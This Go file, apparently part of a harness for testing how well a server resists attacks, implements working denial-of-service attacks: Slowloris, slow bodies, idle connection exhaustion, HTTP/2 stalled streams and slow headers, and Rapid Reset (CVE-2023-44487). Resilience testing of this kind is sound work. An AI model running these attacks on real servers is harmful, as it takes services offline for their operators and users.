package attack

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"golang.org/x/net/http2"
)

// source is the local address of attack connection i: the addresses of
// from in turn ("" when from is empty: the kernel picks).
func source(from []string, i int) string {
	if len(from) == 0 {
		return ""
	}
	return from[i%len(from)]
}

// dialN dials n connections offering proto and calls start on each; it
// stops at the first error and returns what it opened.
func dialN(ctx context.Context, tg Target, from []string, n int, proto string, start func(c net.Conn) error) ([]net.Conn, error) {
	var conns []net.Conn
	for i := range n {
		c, err := tg.Dial(ctx, source(from, i), proto)
		if err != nil {
			return conns, err
		}
		conns = append(conns, c)
		if err := start(c); err != nil {
			return conns, fmt.Errorf("attack: connection %d: %w", i, err)
		}
	}
	return conns, nil
}

// dialH2N is dialN for HTTP/2: it dials n connections, each with the
// client preface and SETTINGS sent, and calls start on each.
func dialH2N(ctx context.Context, tg Target, from []string, n int, start func(h *H2Conn) error) ([]net.Conn, error) {
	var conns []net.Conn
	for i := range n {
		h, err := tg.DialH2(ctx, source(from, i))
		if err != nil {
			return conns, err
		}
		conns = append(conns, h.Conn)
		if err := start(h); err != nil {
			return conns, fmt.Errorf("attack: connection %d: %w", i, err)
		}
	}
	return conns, nil
}

// trickle calls write every pause until it fails, ctx is done or max
// writes were made.
func trickle(ctx context.Context, pause time.Duration, max int, write func() error) {
	t := time.NewTicker(pause)
	defer t.Stop()
	for range max {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
		}
		if write() != nil {
			return
		}
	}
}

// trickleMax bounds a trickling goroutine's writes, so that one left
// behind by a server that never closes still ends.
const trickleMax = 10000

// Slowloris sends, on each of conns HTTP/1.1 connections, a request line
// and then one header byte every pause, never ending the head.
func Slowloris(ctx context.Context, tg Target, from []string, conns int, pause time.Duration) ([]net.Conn, error) {
	return dialN(ctx, tg, from, conns, "http/1.1", func(c net.Conn) error {
		if _, err := fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nX-a: ", tg.ServerName); err != nil {
			return err
		}
		go trickle(ctx, pause, trickleMax, func() error { _, err := c.Write([]byte("a")); return err })
		return nil
	})
}

// SlowBody sends, on each of conns HTTP/1.1 connections, a complete head
// of a POST to path announcing a 100,000-byte body, and then one body
// byte every pause.
func SlowBody(ctx context.Context, tg Target, from []string, conns int, path string, pause time.Duration) ([]net.Conn, error) {
	return dialN(ctx, tg, from, conns, "http/1.1", func(c net.Conn) error {
		if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 100000\r\n\r\nx", path, tg.ServerName); err != nil {
			return err
		}
		go trickle(ctx, pause, trickleMax, func() error { _, err := c.Write([]byte("x")); return err })
		return nil
	})
}

// NeverRead sends, on each of conns HTTP/1.1 connections, a GET of path
// (a large response) and never reads: the server's writes stall once the
// kernel buffers on both sides are full. Closed reads, so call it only
// once the server is expected to have given up.
func NeverRead(ctx context.Context, tg Target, from []string, conns int, path string) ([]net.Conn, error) {
	return dialN(ctx, tg, from, conns, "http/1.1", func(c net.Conn) error {
		_, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, tg.ServerName)
		return err
	})
}

// Idle opens n connections and leaves them idle: with path "", right
// after the TLS handshake (no request); otherwise after one GET of path
// whose response was read whole (an idle keep-alive connection). A
// connection the server refuses (the dial or the request fails) is
// counted in refused, not returned.
func Idle(ctx context.Context, tg Target, from []string, n int, path string) (conns []net.Conn, refused int) {
	for i := range n {
		c, err := tg.Dial(ctx, source(from, i), "http/1.1")
		if err == nil && path != "" {
			err = getOnce(c, tg.ServerName, path)
		}
		if err != nil {
			if c != nil {
				c.Close()
			}
			refused++
			continue
		}
		conns = append(conns, c)
	}
	return conns, refused
}

// getOnce makes one HTTP/1.1 request for path on c and reads the whole
// response (it must have a length, so that nothing is left unread).
func getOnce(c net.Conn, host, path string) error {
	_ = c.SetDeadline(time.Now().Add(dialTimeout))
	defer c.SetDeadline(time.Time{})
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, host); err != nil {
		return err
	}
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK || resp.ContentLength < 0 || br.Buffered() > 0 {
		return fmt.Errorf("GET %s: status %d, length %d, %d bytes after the body", path, resp.StatusCode, resp.ContentLength, br.Buffered())
	}
	return nil
}

// H2Bodies opens conns HTTP/2 connections and starts, on each, streams
// POSTs to path whose bodies never come (HEADERS without END_STREAM,
// then nothing). Streams beyond the server's concurrency limit are its
// to refuse.
func H2Bodies(ctx context.Context, tg Target, from []string, conns, streams int, path string) ([]net.Conn, error) {
	return dialH2N(ctx, tg, from, conns, func(h *H2Conn) error {
		block := h.HeaderBlock("POST", path)
		for s := range streams {
			_ = h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*s + 1), BlockFragment: block, EndHeaders: true})
		}
		return nil
	})
}

// H2SlowHeaders opens conns HTTP/2 connections and sends, on each, the
// first byte of a GET of path in a HEADERS frame without END_HEADERS,
// then one more byte of the block in a CONTINUATION frame every pause,
// never ending it.
func H2SlowHeaders(ctx context.Context, tg Target, from []string, conns int, path string, pause time.Duration) ([]net.Conn, error) {
	return dialH2N(ctx, tg, from, conns, func(h *H2Conn) error {
		block := h.HeaderBlock("GET", path)
		if err := h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:1]}); err != nil {
			return err
		}
		go trickle(ctx, pause, trickleMax, func() error { return h.Framer.WriteContinuation(1, false, block[1:2]) })
		return nil
	})
}

// RapidReset is the HTTP/2 rapid-reset attack (CVE-2023-44487): on a
// connection, up to resets pairs of HEADERS (a GET of path, END_STREAM)
// and RST_STREAM(CANCEL), as fast as the connection takes them, until a
// write fails (the server's mitigation sent GOAWAY and closed); then the
// same on a new connection, for as long as more returns true (it is
// asked after each connection; at most maxLoops). It returns the number
// of connections used and the pairs written in all.
func RapidReset(ctx context.Context, tg Target, from []string, resets int, path string, more func() bool) (loops, pairs int, err error) {
	const maxLoops = 1000
	for loops < maxLoops && ctx.Err() == nil {
		h, err := tg.DialH2(ctx, source(from, loops))
		if err != nil {
			return loops, pairs, err
		}
		loops++
		go func() { _, _ = io.Copy(io.Discard, h.Conn) }()
		block := h.HeaderBlock("GET", path)
		for j := range resets {
			id := uint32(2*j + 1)
			if h.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil ||
				h.Framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				break
			}
			pairs++
		}
		h.Conn.Close()
		if !more() {
			break
		}
	}
	return loops, pairs, nil
}

// Closed reads (and discards) from every conn until the server closes it
// or deadline passes, and returns how many were still open then and when
// the last of the others was seen closed (zero if none was).
func Closed(conns []net.Conn, deadline time.Time) (open int, last time.Time) {
	type result struct {
		closed bool
		at     time.Time
	}
	res := make(chan result, len(conns))
	for _, c := range conns {
		go func() {
			_ = c.SetReadDeadline(deadline)
			_, err := io.Copy(io.Discard, c)
			var ne net.Error
			res <- result{closed: !(errors.As(err, &ne) && ne.Timeout()), at: time.Now()}
		}()
	}
	for range conns {
		r := <-res
		if !r.closed {
			open++
		} else if r.at.After(last) {
			last = r.at
		}
	}
	return open, last
}

// CloseAll closes every conn.
func CloseAll(conns []net.Conn) {
	for _, c := range conns {
		c.Close()
	}
}
